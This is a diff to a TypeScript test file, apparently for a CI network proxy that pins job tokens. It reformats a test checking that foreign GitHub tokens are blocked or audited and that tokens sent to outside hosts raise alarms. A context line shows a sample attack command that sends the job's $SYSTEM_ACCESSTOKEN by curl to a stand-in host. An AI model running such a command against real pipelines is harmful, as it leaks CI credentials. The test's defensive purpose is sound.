@@ -124,41 +124,45 @@ const attack = [
   'curl -sS -o /dev/null -w "%{http_code}" -u ":$SYSTEM_ACCESSTOKEN" https://files.acme.test/status/203',
 ].join('\n')
 
-await t.test("tokens that are not the job's own, and tokens sent elsewhere", { skip: whyNoLab(['git']) }, async t => {
-  await using lab = await openLab({ services: ['origins', 'git'] })
-  await serve(lab)
-  for (const mode of ['block', 'audit'] as const)
-    await t.test(`in ${mode}`, async t => {
-      await lab.origins.clear()
-      const policy = `version: 1\nmode: ${mode}\nallow: [${names.join(', ')}]\ntokens: { pin: true }\n`
-      // An attacker brings his own: it is not in what the job was started with.
-      const script = attack.replaceAll('$THEIRS', theirs)
-      const run = await runBehind(lab, { policy, command: ['sh', '-c', script], env })
-      const isBlock = mode === 'block'
-      t.equal(run.stdout.replace(/\s+/g, ' '), isBlock ? '403 128 201 202 203' : '200 0 201 202 203', run.stderr)
-      const sent = await lab.origins.requests(({ headers }) => JSON.stringify(headers).includes(theirs))
-      t.equal(sent.length, isBlock ? 0 : 1, "what reached GitHub with the attacker's token")
-      const refused = run.lines.filter(({ rule }) => rule === 'tokens.pin')
-      const verdict = isBlock ? 'deny' : 'observe'
-      t.match(refused, [
-        { host: 'api.github.com', verdict, reason: 'denied-by-rule', method: 'POST' },
-        { host: 'github.com', verdict, reason: 'denied-by-rule' },
-      ])
-      const alarms = run.lines
-        .filter(({ event }) => event === 'anomaly')
-        .map(({ host, details }) => [details?.['kind'], host])
-      t.same(
-        alarms,
-        [
-          ['token-unpinned', 'api.github.com'],
-          ['token-unpinned', 'github.com'],
-          ['token-abroad', 'files.acme.test'],
-          ['token-abroad', 'files.acme.test'],
-        ],
-        'each is told once',
-      )
-      for (const secret of [own, theirs, azure])
-        t.notOk(JSON.stringify(run.lines).includes(secret), 'no token is written')
-      t.match(run.stderr, /GITHUB_TOKEN.* files\.acme\.test/s, 'the report names the variable and the host')
-    })
-})
+await t.test(
+  "I7: tokens that are not the job's own, and tokens sent elsewhere",
+  { skip: whyNoLab(['git']) },
+  async t => {
+    await using lab = await openLab({ services: ['origins', 'git'] })
+    await serve(lab)
+    for (const mode of ['block', 'audit'] as const)
+      await t.test(`in ${mode}`, async t => {
+        await lab.origins.clear()
+        const policy = `version: 1\nmode: ${mode}\nallow: [${names.join(', ')}]\ntokens: { pin: true }\n`
+        // An attacker brings his own: it is not in what the job was started with.
+        const script = attack.replaceAll('$THEIRS', theirs)
+        const run = await runBehind(lab, { policy, command: ['sh', '-c', script], env })
+        const isBlock = mode === 'block'
+        t.equal(run.stdout.replace(/\s+/g, ' '), isBlock ? '403 128 201 202 203' : '200 0 201 202 203', run.stderr)
+        const sent = await lab.origins.requests(({ headers }) => JSON.stringify(headers).includes(theirs))
+        t.equal(sent.length, isBlock ? 0 : 1, "what reached GitHub with the attacker's token")
+        const refused = run.lines.filter(({ rule }) => rule === 'tokens.pin')
+        const verdict = isBlock ? 'deny' : 'observe'
+        t.match(refused, [
+          { host: 'api.github.com', verdict, reason: 'denied-by-rule', method: 'POST' },
+          { host: 'github.com', verdict, reason: 'denied-by-rule' },
+        ])
+        const alarms = run.lines
+          .filter(({ event }) => event === 'anomaly')
+          .map(({ host, details }) => [details?.['kind'], host])
+        t.same(
+          alarms,
+          [
+            ['token-unpinned', 'api.github.com'],
+            ['token-unpinned', 'github.com'],
+            ['token-abroad', 'files.acme.test'],
+            ['token-abroad', 'files.acme.test'],
+          ],
+          'each is told once',
+        )
+        for (const secret of [own, theirs, azure])
+          t.notOk(JSON.stringify(run.lines).includes(secret), 'no token is written')
+        t.match(run.stderr, /GITHUB_TOKEN.* files\.acme\.test/s, 'the report names the variable and the host')
+      })
+  },
+)
